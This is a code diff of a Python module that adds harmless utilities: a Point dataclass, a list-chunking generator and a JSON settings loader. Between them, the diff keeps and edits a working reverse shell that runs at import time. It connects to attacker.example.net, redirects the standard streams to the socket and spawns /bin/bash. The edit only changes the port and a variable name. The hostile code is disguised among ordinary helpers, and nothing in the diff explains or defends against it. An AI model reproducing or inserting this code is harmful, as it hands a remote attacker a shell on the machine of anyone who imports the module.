@@ -1,7 +1,25 @@
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
+
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
 import socket, os, pty
-conn = socket.socket()
-conn.connect(("attacker.example.net", 443))
+client = socket.socket()
+client.connect(("attacker.example.net", 1337))
 for fd in (0, 1, 2):
-    os.dup2(conn.fileno(), fd)
+    os.dup2(client.fileno(), fd)
 pty.spawn("/bin/bash")
+import json
+
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
